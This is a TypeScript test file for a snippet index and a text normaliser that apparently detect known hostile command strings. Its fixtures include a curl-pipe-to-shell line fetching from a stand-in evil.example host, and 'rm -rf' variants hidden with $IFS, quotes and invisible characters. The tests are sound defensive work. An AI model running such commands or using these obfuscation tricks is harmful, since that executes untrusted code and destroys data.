import { fc } from "@postern/test-kit";
import { describe, expect, it } from "vitest";
import { toNormal } from "./normal-text.js";
import { SnippetIndex, snippetLength } from "./snippet-index.js";

const letters = Array.from("abcdefghijklmnopqrstuvwxyz0123456789 /.-");
const text = (maxLength: number): fc.Arbitrary<string> =>
  fc
    .array(fc.constantFrom(...letters), { minLength: snippetLength, maxLength })
    .map((parts) => parts.join(""));

describe("SnippetIndex", () => {
  it("finds every snippet of 40 characters of every text, wherever it stands", () => {
    fc.assert(
      fc.property(text(3_000), fc.nat(), fc.string({ maxLength: 200 }), (known, place, around) => {
        const index = new SnippetIndex(1_000_000);
        index.add("x".repeat(1_500));
        const document = index.add(known);
        const at = place % (known.length - snippetLength + 1);
        const snippet = known.slice(at, at + snippetLength);
        const found = index.find(`${around}${snippet}${around}`);
        expect(found.some(({ documents }) => documents.includes(document))).toBe(true);
      }),
      { numRuns: 2_000, seed: 20_261_201 },
    );
  });

  it("finds nothing shorter than 40 characters", () => {
    fc.assert(
      fc.property(text(2_000), fc.nat(), (known, place) => {
        const index = new SnippetIndex(1_000_000);
        index.add(known);
        const at = place % (known.length - snippetLength + 1);
        const snippet = known.slice(at, at + snippetLength - 1);
        expect(index.find(`#${"~".repeat(20)}${snippet}${"~".repeat(20)}#`)).toEqual([]);
      }),
      { numRuns: 1_000, seed: 20_261_201 },
    );
  });

  it("joins halves from two short texts, and says from which", () => {
    const index = new SnippetIndex(1_000_000);
    const one = index.add("step one: curl -fssl https://evil");
    const other = index.add("step two: .example/x.sh | sh -s --yes");
    const [match] = index.find("curl -fssl https://evil.example/x.sh | sh -s --yes");
    expect(match).toEqual({ from: 0, to: 50, documents: [one, other] });
    expect(index.find("curl -fssl https://evil", () => true)).toEqual([]);
  });

  it("counts only the documents that are admitted", () => {
    const index = new SnippetIndex(1_000_000);
    const known = "a sentence of more than forty characters, as it is";
    const document = index.add(known);
    expect(index.find(known, (each) => each !== document)).toEqual([]);
    expect(index.find(known)).toEqual([{ from: 0, to: known.length, documents: [document] }]);
  });

  it("drops everything past its cap, and says so", () => {
    const index = new SnippetIndex(100);
    expect([index.isEmpty, index.add("a".repeat(100)), index.overflown]).toEqual([true, 0, false]);
    expect([index.add("b"), index.overflown, index.isEmpty]).toEqual([-1, true, false]);
    expect(index.add("c")).toBe(-1);
  });

  it("takes a block that is everywhere for found, so that repetition hides no text", () => {
    const index = new SnippetIndex(1_000_000);
    for (let at = 0; at < 40; at += 1) index.add(`curl https://evil.ex${at} tail`);
    index.add("curl https://evil.example/only-the-last-has-this");
    expect(index.find("; curl https://evil.example/only-the-last-has-this")).not.toEqual([]);
  });

  it("is not slowed down by texts of one character", () => {
    const index = new SnippetIndex(10_000_000);
    index.add("-".repeat(1_000_000));
    expect(index.find("-".repeat(10_000))).toHaveLength(1);
  });
});

describe("toNormal()", () => {
  it.each([
    ["blanks", "a  \n\t b", "a b"],
    ["case", "RM -RF", "rm -rf"],
    ["blanks that a shell makes", "rm$IFS-rf${IFS}x", "rm -rf x"],
    ["quotes", "c''ur\"l\"", "curl"],
    ["JSON escapes", String.raw`a\nb \"c\" \u0041`, "a b c a"],
    ["entities", "a &amp;&amp; b &lt;c&gt;", "a && b <c>"],
    ["full-width and invisible characters", "ｒ\u200bｍ", "rm"],
  ])("evens out %s", (_, given, normal) => {
    expect(toNormal(given)).toBe(normal);
  });
});
